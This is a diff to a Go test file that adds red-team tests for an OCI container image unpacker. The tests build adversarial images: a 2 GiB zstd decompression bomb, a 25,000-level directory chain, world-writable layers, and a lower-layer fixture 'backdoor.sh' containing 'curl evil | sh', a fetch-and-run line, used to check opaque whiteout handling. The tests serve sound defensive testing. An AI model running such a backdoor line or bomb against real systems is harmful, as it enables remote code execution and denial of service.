@@ -446,3 +446,63 @@ func TestRedteamFindingTrailingBombIgnoresCancel(t *testing.T) {
 		})
 	}
 }
+
+// TestRedteamWriteLayouts writes the layouts the command-line reproducers
+// (environment/image/testdata/redteam.sh) use, into $RT_OUT.
+func TestRedteamWriteLayouts(t *testing.T) {
+	out := os.Getenv("RT_OUT")
+	if out == "" {
+		t.Skip("RT_OUT not set")
+	}
+	save := func(name, src string) {
+		if err := exec.Command("cp", "-a", src, filepath.Join(out, name)).Run(); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// A small, ordinary image.
+	save("small", writeLayout(t, imageOf(t, layerOf(t, dir("usr/"), dir("usr/bin/"), file("usr/bin/hello", "hi\n")))))
+	// An image with world-writable directories and files (and /tmp 1777).
+	save("wide", writeLayout(t, imageOf(t, layerOf(t,
+		ent{name: "usr/", typ: tar.TypeDir, mode: 0o777},
+		ent{name: "usr/bin/", typ: tar.TypeDir, mode: 0o777},
+		ent{name: "usr/bin/tool", body: "#!/bin/sh\necho original\n", typ: tar.TypeReg, mode: 0o777},
+		ent{name: "tmp/", typ: tar.TypeDir, mode: 0o1777}))))
+	// A valid image (its diff id is right) that takes a few seconds: 2 GiB
+	// of zeros after the archive's end, 64 KiB of zstd.
+	const n = 2 << 30
+	blob := zstdBomb(t, n)
+	h := sha256.New()
+	h.Write(tarOf(t, file("hello", "hi")))
+	chunk := make([]byte, 1<<20)
+	for i := 0; i < n>>20; i++ {
+		h.Write(chunk)
+	}
+	save("slow", rawLayout(t, "application/vnd.oci.image.layer.v1.tar+zstd", []string{"sha256:" + hex.EncodeToString(h.Sum(nil))}, blob))
+	// A refused image whose layer first makes a chain of 25,000 directories.
+	save("deep", writeLayout(t, imageOf(t, layerFromBytes(t, rawTar(t, tar.FormatPAX,
+		&tar.Header{Name: strings.Repeat("d/", 25000) + "f", Typeflag: tar.TypeReg, Mode: 0o644},
+		&tar.Header{Name: "fifo", Typeflag: tar.TypeFifo, Mode: 0o644})))))
+}
+
+// TestRedteamFindingOpaqueKeepsLowerGrandchildren: an opaque whiteout must
+// hide everything the lower layers put below its directory. When the
+// upper layer re-creates a subdirectory (an explicit entry, as docker
+// build writes them), cordon keeps the lower layers' files inside that
+// subdirectory: a file Docker, containerd and the OCI image spec show as
+// gone (say etc/profile.d/backdoor.sh, under an opaque etc/) is in cordon's
+// rootfs. What a reviewer inspects with docker is not what cordon runs.
+func TestRedteamFindingOpaqueKeepsLowerGrandchildren(t *testing.T) {
+	lower := layerOf(t, dir("etc/"), dir("etc/profile.d/"), file("etc/profile.d/backdoor.sh", "curl evil | sh"), file("etc/hostname", "x"))
+	upper := layerOf(t, dir("etc/"), file("etc/.wh..wh..opq", ""), dir("etc/profile.d/"), file("etc/profile.d/lang.sh", "export LANG=C"))
+	cache := &Cache{Dir: filepath.Join(t.TempDir(), "cache")}
+	r, err := unpack(t, writeLayout(t, imageOf(t, lower, upper)), cache)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(filepath.Join(r.Dir, "etc/hostname")); err == nil {
+		t.Error("etc/hostname survived the opaque whiteout")
+	}
+	if _, err := os.Stat(filepath.Join(r.Dir, "etc/profile.d/backdoor.sh")); err == nil {
+		t.Error("etc/profile.d/backdoor.sh of the lower layer survived the opaque whiteout on etc/")
+	}
+}
